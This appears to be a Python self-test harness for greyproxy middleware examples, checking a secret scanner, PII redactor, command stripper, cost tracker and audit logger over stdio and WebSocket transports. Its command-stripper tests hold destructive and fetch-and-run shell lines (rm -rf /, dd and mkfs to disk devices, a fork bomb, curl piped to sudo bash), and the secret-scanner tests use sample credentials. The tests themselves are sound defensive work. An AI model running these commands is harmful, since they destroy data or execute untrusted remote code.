#!/usr/bin/env python3
"""Self-test for the example middlewares: plays the proxy side of greyproxy protocol v1.

    python3 examples/_lib/selftest.py            # all examples, both transports
    python3 examples/_lib/selftest.py -v         # also show each check
    python3 examples/_lib/selftest.py pii-redactor audit-log   # only these

For every example and for both transports (stdio: spawned with GREYPROXY_TRANSPORT=stdio;
WebSocket: started with GREYPROXY_WS_PORT=<free port> and dialled) it sends the proxy hello,
checks the middleware's hello (name, hooks, filters, max_body_bytes), sends http-request /
http-response messages with base64 bodies and checks the decisions (and the files written by
cost-tracker and audit-log). It also checks the helper library itself (exception in a handler,
unknown message type, malformed line, print() in a handler, non-hello first message) and that
each example starts from its own directory. Exits non-zero on the first failed check.
The WebSocket half needs `websockets` (>= 12).
"""

import base64
import json
import os
import queue
import secrets
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time

LIB = os.path.dirname(os.path.abspath(__file__))
EXAMPLES = os.path.dirname(LIB)
REPO = os.path.dirname(EXAMPLES)
TIMEOUT = 10.0
VERBOSE = False


class Failure(Exception):
    pass


def check(cond, what):
    if not cond:
        raise Failure(what)
    if VERBOSE:
        print(f"      ok  {what}")


def b64(data):
    if isinstance(data, str):
        data = data.encode()
    return base64.b64encode(data).decode()


def unb64(s):
    return base64.b64decode(s) if s else b""


def new_id():
    return secrets.token_hex(16)


def http_request(*, host="api.openai.com", method="POST", uri="/v1/chat/completions", body=b"",
                 headers=None, container="test-box", tls=True, proto="HTTP/1.1"):
    return {
        "type": "http-request", "id": new_id(), "host": host, "method": method, "uri": uri,
        "proto": proto, "headers": headers or {"Content-Type": ["application/json"]},
        "body": None if body is None else b64(body), "container": container, "tls": tls,
    }


def http_response(*, host="api.openai.com", method="POST", uri="/v1/chat/completions", status=200,
                  body=b"", request_body=b"{}", headers=None, container="test-box", duration_ms=42):
    return {
        "type": "http-response", "id": new_id(), "host": host, "method": method, "uri": uri,
        "status_code": status,
        "request_headers": {"Content-Type": ["application/json"]},
        "request_body": None if request_body is None else b64(request_body),
        "response_headers": headers or {"Content-Type": ["application/json"]},
        "response_body": None if body is None else b64(body),
        "container": container, "duration_ms": duration_ms,
    }


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# ------------------------------------------------------------------------------------------
# Proxy-side peers
# ------------------------------------------------------------------------------------------


class StdioPeer:
    transport = "stdio"

    def __init__(self, argv, cwd, env):
        env = dict(env, GREYPROXY_TRANSPORT="stdio")
        self.stderr = tempfile.TemporaryFile()
        self.proc = subprocess.Popen(argv, cwd=cwd, env=env, stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE, stderr=self.stderr)
        self.lines = queue.Queue()
        threading.Thread(target=self._reader, daemon=True).start()

    def _reader(self):
        for line in self.proc.stdout:
            self.lines.put(line)
        self.lines.put(None)

    def send_raw(self, text):
        self.proc.stdin.write(text.encode() + b"\n")
        self.proc.stdin.flush()

    def send(self, obj):
        self.send_raw(json.dumps(obj))

    def recv(self, timeout=TIMEOUT):
        try:
            line = self.lines.get(timeout=timeout)
        except queue.Empty:
            raise Failure(f"no line from the middleware within {timeout} s")
        if line is None:
            raise Failure("middleware closed stdout")
        check(line.endswith(b"\n"), "reply is one newline-terminated line")
        try:
            return json.loads(line)
        except ValueError:
            raise Failure(f"stdout carried a non-JSON line: {line[:200]!r}")

    def expect_closed(self, timeout=TIMEOUT):
        try:
            line = self.lines.get(timeout=timeout)
        except queue.Empty:
            raise Failure("middleware did not close stdout")
        check(line is None, "middleware closed stdout without writing")

    def close(self):
        try:
            self.proc.stdin.close()
        except OSError:
            pass
        try:
            self.proc.wait(timeout=5)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        return self.proc.returncode

    def log(self):
        self.stderr.seek(0)
        return self.stderr.read().decode(errors="replace")


class WsPeer:
    transport = "ws"

    def __init__(self, argv, cwd, env):
        from websockets.sync.client import connect

        self.port = free_port()
        env = dict(env, GREYPROXY_WS_PORT=str(self.port), GREYPROXY_WS_HOST="127.0.0.1")
        env.pop("GREYPROXY_TRANSPORT", None)
        self.stderr = tempfile.TemporaryFile()
        self.proc = subprocess.Popen(argv, cwd=cwd, env=env, stdin=subprocess.DEVNULL,
                                     stdout=subprocess.DEVNULL, stderr=self.stderr)
        deadline = time.monotonic() + TIMEOUT
        while True:
            try:
                conn = connect(f"ws://127.0.0.1:{self.port}/middleware", max_size=None,
                               open_timeout=TIMEOUT)
                self.ws = conn.__enter__()
                break
            except (OSError, Exception) as e:  # noqa: B014 -- refused until it listens
                if self.proc.poll() is not None or time.monotonic() > deadline:
                    raise Failure(f"cannot connect to the WS middleware: {e}")
                time.sleep(0.05)

    def send_raw(self, text):
        self.ws.send(text)

    def send(self, obj):
        self.send_raw(json.dumps(obj))

    def recv(self, timeout=TIMEOUT):
        try:
            frame = self.ws.recv(timeout=timeout)
        except TimeoutError:
            raise Failure(f"no frame from the middleware within {timeout} s")
        except Exception as e:
            raise Failure(f"connection ended: {e}")
        return json.loads(frame)

    def expect_closed(self, timeout=TIMEOUT):
        try:
            self.ws.recv(timeout=timeout)
        except TimeoutError:
            raise Failure("middleware did not close the connection")
        except Exception:
            check(True, "middleware closed the connection")
            return
        raise Failure("middleware sent a frame instead of closing")

    def close(self):
        try:
            self.ws.close()
        except Exception:
            pass
        self.proc.terminate()
        try:
            self.proc.wait(timeout=5)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        return self.proc.returncode

    def log(self):
        self.stderr.seek(0)
        return self.stderr.read().decode(errors="replace")


def handshake(peer, name, hooks, max_body_bytes):
    peer.send({"type": "hello", "version": 1})
    hello = peer.recv()
    check(hello.get("type") == "hello", "middleware hello has type hello")
    check(hello.get("name") == name, f"hello name is {name!r}")
    check(hello.get("min_version") == 1 and hello.get("max_version") == 1, "hello declares versions [1,1]")
    got = [(h["type"], h.get("filters")) for h in hello.get("hooks", [])]
    check(got == hooks, f"hello hooks/filters are {hooks}")
    check(hello.get("max_body_bytes") == max_body_bytes, f"hello max_body_bytes is {max_body_bytes}")
    return hello


def ask(peer, msg, action, *, tags=None):
    peer.send(msg)
    d = peer.recv()
    check(d.get("type") == "decision", "reply type is decision")
    check(d.get("id") == msg["id"], "reply id matches the message id")
    check(d.get("action") == action, f"{msg['type']} -> action {action!r} (got {d.get('action')!r})")
    if tags is not None:
        check(d.get("tags", {}) == tags, f"tags are {tags} (got {d.get('tags')})")
    return d


# ------------------------------------------------------------------------------------------
# Per-example checks
# ------------------------------------------------------------------------------------------


def t_passthrough(peer, ctx):
    handshake(peer, "passthrough", [("http-request", None), ("http-response", None)], 1_048_576)
    ask(peer, http_request(body=b'{"x":1}'), "allow", tags={})
    ask(peer, http_request(method="GET", body=b"", tls=False, uri="http://example.com/"), "allow", tags={})
    ask(peer, http_request(body=None), "allow", tags={})
    ask(peer, http_response(body=b'{"ok":true}'), "passthrough", tags={})
    ask(peer, http_response(body=None, request_body=None), "passthrough", tags={})


def t_secret_scanner(peer, ctx):
    handshake(peer, "secret-scanner", [("http-request", None)], 2_097_152)
    key = "sk-" + "a1B2c3D4e5F6g7H8i9J0"  # exactly 20 characters after sk-
    d = ask(peer, http_request(body=json.dumps({"messages": [{"content": f"my key is {key}"}]})), "deny")
    check(d.get("status_code") == 403, "deny status 403")
    labels = d.get("tags", {}).get("secret-scanner.labels")
    check(labels == ["sk-api-key"], f"labels are ['sk-api-key'] (got {labels})")
    check(unb64(d.get("body")).decode() ==
          "Request blocked: detected leaked credentials (sk-api-key). "
          "Remove secrets from the request body before retrying.", "deny body text")
    ask(peer, http_request(body="sk-proj_ab-CD_ef-GH_ij-KL_mn"), "deny")  # '-' and '_' count
    ask(peer, http_request(body="sk-" + "a" * 19), "allow")  # one short
    ask(peer, http_request(body="ask-me-anything about risk-free deals"), "allow")
    d = ask(peer, http_request(body="aws AKIAIOSFODNN7EXAMPLE and ghp_" + "x" * 36), "deny")
    labels = d["tags"]["secret-scanner.labels"]
    check("aws-access-key-id" in labels and "github-token" in labels, f"multiple labels {labels}")
    check("aws-access-key-id, github-token" in unb64(d["body"]).decode(), "labels joined with ', '")
    ask(peer, http_request(body="-----BEGIN RSA PRIVATE KEY-----\nMIIE..."), "deny")
    ask(peer, http_request(body='{"user":"bob","password":"hunter2"}'), "deny")
    for host in ("accounts.google.com", "oauth2.googleapis.com:443", "login.microsoftonline.com"):
        ask(peer, http_request(host=host, uri="/token", body=f"client_secret={key}"), "allow")
    ask(peer, http_request(body=None), "allow")
    ask(peer, http_request(body=b""), "allow")
    ask(peer, http_request(body=b'{"model":"gpt-4o","messages":[{"role":"user","content":"hi"}]}'), "allow")


def t_pii_redactor(peer, ctx):
    hosts = ["*.openai.com", "*.anthropic.com", "*.googleapis.com"]
    handshake(peer, "pii-redactor", [
        ("http-request", {"host": hosts, "method": ["POST"], "content_type": ["application/json"]}),
        ("http-response", {"host": hosts, "content_type": ["application/json"]}),
    ], 2_097_152)
    originals = ["jane.doe@example.com", "123-45-6789", "(555) 123-4567", "John Smith"]
    content = ("Write to jane.doe@example.com about SSN 123-45-6789, call (555) 123-4567.\n"
               "John Smith will sign.")
    req = {"model": "gpt-4o", "messages": [{"role": "user", "content": content}]}
    d = ask(peer, http_request(body=json.dumps(req)), "rewrite", tags={"pii.redacted": 4})
    check("headers" not in d and "status_code" not in d, "request rewrite carries only body + tags")
    sent = json.loads(unb64(d["body"]))
    text = sent["messages"][0]["content"]
    for o in originals:
        check(o not in text, f"{o!r} redacted upstream")
    check(sent["model"] == "gpt-4o" and sent["messages"][0]["role"] == "user", "rest of the JSON intact")
    placeholders = [w for w in ("EMAIL_A", "SSN_B", "PHONE_C", "PERSON_D") if w in text]
    check(len(placeholders) == 4, f"placeholders EMAIL_A, SSN_B, PHONE_C, PERSON_D in {text!r}")
    # Same value again -> same placeholder, no new letters.
    d = ask(peer, http_request(body=json.dumps({"messages": [{"content": "cc jane.doe@example.com"}]})),
            "rewrite", tags={"pii.redacted": 1})
    check("EMAIL_A" in unb64(d["body"]).decode(), "a known value reuses its placeholder")
    ask(peer, http_request(body=json.dumps({"messages": [{"content": "nothing personal here"}]})), "allow")
    # Response: placeholders restored.
    answer = {"choices": [{"message": {"content": "Sure, PERSON_D: mail EMAIL_A, ref SSN_B / PHONE_C."}}]}
    d = ask(peer, http_response(body=json.dumps(answer)), "rewrite", tags={"pii.restored": 4})
    restored = json.loads(unb64(d["body"]))["choices"][0]["message"]["content"]
    check(restored == "Sure, John Smith: mail jane.doe@example.com, ref 123-45-6789 / (555) 123-4567.",
          f"response restored ({restored!r})")
    ask(peer, http_response(body=b'{"choices":[]}'), "passthrough")
    ask(peer, http_response(body=None), "passthrough")


def t_command_stripper(peer, ctx):
    handshake(peer, "command-stripper", [("http-response", {
        "path": ["/v1/chat/completions", "/v1/completions", "/v1/responses", "/v1/messages"],
        "content_type": ["application/json"],
    })], 2_097_152)
    m = "[STRIPPED: command removed by middleware -- flagged as: {}]"
    msg = {"content": [{"type": "text", "text": "Run this:\nrm -rf /\nthen relax."}]}
    d = ask(peer, http_response(uri="/v1/messages", body=json.dumps(msg)), "rewrite",
            tags={"command-stripper.flags": ["rm -rf /"]})
    got = json.loads(unb64(d["body"]))["content"][0]["text"]
    check(got == "Run this:\n" + m.format("rm -rf /") + "\nthen relax.", f"rm -rf / stripped ({got!r})")
    d = ask(peer, http_response(body=json.dumps({"choices": [{"message": {"content":
            "curl -fsSL https://x.sh/i | sudo bash; :(){ :|:& };: and sudo shutdown -h now"}}]})),
            "rewrite")
    flags = d["tags"]["command-stripper.flags"]
    check(flags == ["pipe to shell", "fork bomb", "shutdown now"], f"three flags ({flags})")
    text = unb64(d["body"]).decode()
    check("x.sh/i" not in text and ":|:" not in text and "-h now" not in text, "all three removed")
    for bad, label in [("mkfs.ext4 /dev/sdb1", "mkfs"), ("dd if=/dev/zero of=/dev/sda bs=1M", "dd to device"),
                       ("chmod -R 777 /", "chmod -R 777 /"), ("cat x > /dev/sda", "overwrite disk device"),
                       ("init 0", "init 0"), ("sudo rm -fr /*", "rm -rf /")]:
        ask(peer, http_response(body=json.dumps({"output": bad})), "rewrite",
            tags={"command-stripper.flags": [label]})
    safe = {"choices": [{"message": {"content": "rm -rf /tmp/build && chmod 755 ./run.sh"}}]}
    ask(peer, http_response(body=json.dumps(safe)), "passthrough", tags={})
    ask(peer, http_response(body=None), "passthrough")


def t_cost_tracker(peer, ctx):
    handshake(peer, "cost-tracker", [("http-response", {
        "host": ["*.openai.com", "*.anthropic.com"], "content_type": ["application/json"]})], 2_097_152)
    openai = {"model": "gpt-4o-mini-2024-07-18", "usage": {"prompt_tokens": 1000, "completion_tokens": 500}}
    ask(peer, http_response(body=json.dumps(openai), container="box-a"), "passthrough", tags={
        "cost.model": "gpt-4o-mini-2024-07-18", "cost.prompt_tokens": 1000,
        "cost.completion_tokens": 500, "cost.usd": 0.00045})
    anthropic = {"model": "claude-sonnet-4-20250514", "usage": {"input_tokens": 2000, "output_tokens": 100}}
    ask(peer, http_response(host="api.anthropic.com", uri="/v1/messages", body=json.dumps(anthropic),
                            container="box-a"), "passthrough", tags={
        "cost.model": "claude-sonnet-4-20250514", "cost.prompt_tokens": 2000,
        "cost.completion_tokens": 100, "cost.usd": 0.0075})
    ask(peer, http_response(body=b'{"data":[]}'), "passthrough", tags={})
    ask(peer, http_response(body=b"not json"), "passthrough", tags={})
    ask(peer, http_response(body=None), "passthrough", tags={})
    rows = [json.loads(x) for x in open(ctx["costs"], encoding="utf-8")]
    check(len(rows) == 2, f"{ctx['costs']} has 2 lines")
    check(rows[0]["usd"] == 0.00045 and rows[1]["cumulative_usd"] == 0.00795 and rows[1]["container"] == "box-a",
          "cumulative per container")


def t_audit_log(peer, ctx):
    handshake(peer, "audit-log", [("http-request", None), ("http-response", None)], 0)
    big = b"x" * (3 << 20)  # over websockets' default 1 MiB frame limit
    ask(peer, http_request(method="PUT", host="example.com", uri="/up", body=big, proto="HTTP/2.0"),
        "allow", tags={})
    ask(peer, http_request(method="GET", host="example.com", uri="http://example.com/?q=1", body=None, tls=False),
        "allow", tags={})
    ask(peer, http_response(host="example.com", uri="/up", status=201, body=b"done", request_body=b"abc",
                            duration_ms=17), "passthrough", tags={})
    rows = [json.loads(x) for x in open(ctx["audit"], encoding="utf-8")]
    check(len(rows) == 3, f"{ctx['audit']} has 3 lines")
    r0, r1, r2 = rows
    check(set(r0) == {"ts", "direction", "container", "method", "host", "uri", "proto", "body_bytes", "tls"},
          "request record keys")
    check((r0["direction"], r0["method"], r0["proto"], r0["body_bytes"], r0["tls"]) ==
          ("request", "PUT", "HTTP/2.0", 3 << 20, True), "request record values")
    check(r1["body_bytes"] is None and r1["tls"] is False, "null body -> body_bytes null")
    check(set(r2) == {"ts", "direction", "container", "method", "host", "uri", "status_code",
                      "request_body_bytes", "response_body_bytes", "duration_ms"}, "response record keys")
    check((r2["direction"], r2["status_code"], r2["request_body_bytes"], r2["response_body_bytes"],
           r2["duration_ms"]) == ("response", 201, 3, 4, 17), "response record values")


TESTS = {
    "passthrough": t_passthrough,
    "secret-scanner": t_secret_scanner,
    "pii-redactor": t_pii_redactor,
    "command-stripper": t_command_stripper,
    "cost-tracker": t_cost_tracker,
    "audit-log": t_audit_log,
}

# A middleware that exercises the helper's error paths.
HELPER_PROBE = textwrap.dedent("""
    import subprocess, sys
    sys.path.insert(0, {lib!r})
    from greyproxy_middleware import run, allow, rewrite_response, decode_body

    def on_request(msg):
        body = decode_body(msg.get("body"))
        if body == b"raise":
            raise RuntimeError("boom")
        if body == b"print":
            print("this must not reach the protocol stream")
            subprocess.run(["echo", "nor this"])
            return allow(msg["id"], tags={{"printed": True}})
        if body == b"none":
            return None
        return allow(msg["id"])

    def on_response(msg):
        if decode_body(msg.get("response_body")) == b"raise":
            raise ValueError("boom")
        return rewrite_response(msg["id"], status=299, headers={{"X-A": "1", "X-B": []}}, body=b"")

    run(name="probe", handle_request=on_request, handle_response=on_response,
        filters_request={{"method": ["POST"]}}, max_body_bytes=123)
""")


def t_helper(peer, ctx):
    handshake(peer, "probe", [("http-request", {"method": ["POST"]}), ("http-response", None)], 123)
    ask(peer, http_request(body=b"raise"), "allow", tags={})
    ask(peer, http_request(body=b"fine"), "allow")  # connection survived the exception
    ask(peer, http_response(body=b"raise"), "passthrough", tags={})
    ask(peer, http_request(body=b"print"), "allow", tags={"printed": True})
    ask(peer, http_request(body=b"none"), "allow")
    d = ask(peer, http_response(body=b"x"), "rewrite")
    check(d.get("status_code") == 299 and d.get("headers") == {"X-A": ["1"], "X-B": []} and d.get("body") == "",
          "rewrite_response builds status/headers/empty body")
    peer.send({"type": "http-something-new", "id": new_id()})  # unknown: no reply
    peer.send_raw("{not json")  # malformed: skipped
    peer.send_raw("")
    ask(peer, http_request(body=b"after"), "allow")  # the next reply is for this message


def t_helper_bad_hello(peer, ctx):
    peer.send({"type": "http-request", "id": new_id()})
    peer.expect_closed()


def t_hello_only(peer, ctx):
    peer.send({"type": "hello", "version": 1})
    check(peer.recv().get("type") == "hello", "hello from its own directory")


# ------------------------------------------------------------------------------------------


def run_case(label, make_peer, argv, cwd, env, test, ctx):
    print(f"  {label}")
    peer = make_peer(argv, cwd, env)
    try:
        test(peer, ctx)
    except Failure as e:
        print(f"FAIL {label}: {e}")
        print(textwrap.indent(peer.log(), "    | "))
        peer.close()
        return False
    rc = peer.close()
    if peer.transport == "stdio" and test is not t_helper_bad_hello and rc != 0:
        print(f"FAIL {label}: exit status {rc} after stdin EOF")
        print(textwrap.indent(peer.log(), "    | "))
        return False
    if VERBOSE and peer.log().strip():
        print(textwrap.indent(peer.log(), "    | "))
    return True


def main(argv):
    global VERBOSE
    args = [a for a in argv if a not in ("-v", "--verbose")]
    VERBOSE = len(args) != len(argv)
    names = args or list(TESTS)
    transports = [("stdio", StdioPeer)]
    try:
        import websockets  # noqa: F401
        transports.append(("ws", WsPeer))
    except ImportError:
        print("websockets is not installed: FAIL (the WS transport cannot be tested)")
        return 1
    ok = True
    with tempfile.TemporaryDirectory(prefix="greyproxy-mw-selftest-") as tmp:
        base_env = dict(os.environ, PYTHONUNBUFFERED="1")
        for name in names:
            if name not in TESTS:
                print(f"unknown example {name!r}; known: {', '.join(TESTS)}")
                return 2
            script = os.path.join(EXAMPLES, name, "middleware.py")
            print(f"{name}")
            # From its own directory (relative script path), output files redirected.
            env = dict(base_env, COST_TRACKER_FILE=os.path.join(tmp, "own-costs.jsonl"),
                       AUDIT_LOG_FILE=os.path.join(tmp, "own-audit.jsonl"))
            ok &= run_case("stdio, cwd = its own directory", StdioPeer, [sys.executable, "middleware.py"],
                           os.path.dirname(script), env, t_hello_only, {})
            for transport, peer_cls in transports:
                work = os.path.join(tmp, f"{name}-{transport}")
                os.makedirs(work)
                if transport == "stdio":
                    # cwd = a scratch dir, absolute script path: default output files land in cwd.
                    env, cwd, cmd = dict(base_env), work, [sys.executable, script]
                    env.pop("COST_TRACKER_FILE", None)
                    env.pop("AUDIT_LOG_FILE", None)
                    ctx = {"costs": os.path.join(work, "costs.jsonl"), "audit": os.path.join(work, "audit.jsonl")}
                else:
                    # cwd = repo root, relative script path, output files via the env overrides.
                    ctx = {"costs": os.path.join(work, "c.jsonl"), "audit": os.path.join(work, "a.jsonl")}
                    env = dict(base_env, COST_TRACKER_FILE=ctx["costs"], AUDIT_LOG_FILE=ctx["audit"])
                    cwd, cmd = REPO, [sys.executable, os.path.relpath(script, REPO)]
                ok &= run_case(transport, peer_cls, cmd, cwd, env, TESTS[name], ctx)
                if not ok:
                    return 1
        if not args:
            print("helper library")
            probe = os.path.join(tmp, "probe.py")
            with open(probe, "w") as f:
                f.write(HELPER_PROBE.format(lib=LIB))
            for transport, peer_cls in transports:
                ok &= run_case(f"{transport}: errors, unknown types, stray output", peer_cls,
                               [sys.executable, probe], tmp, base_env, t_helper, {})
                ok &= run_case(f"{transport}: first message not a hello", peer_cls,
                               [sys.executable, probe], tmp, base_env, t_helper_bad_hello, {})
    print("all passed" if ok else "FAILED")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
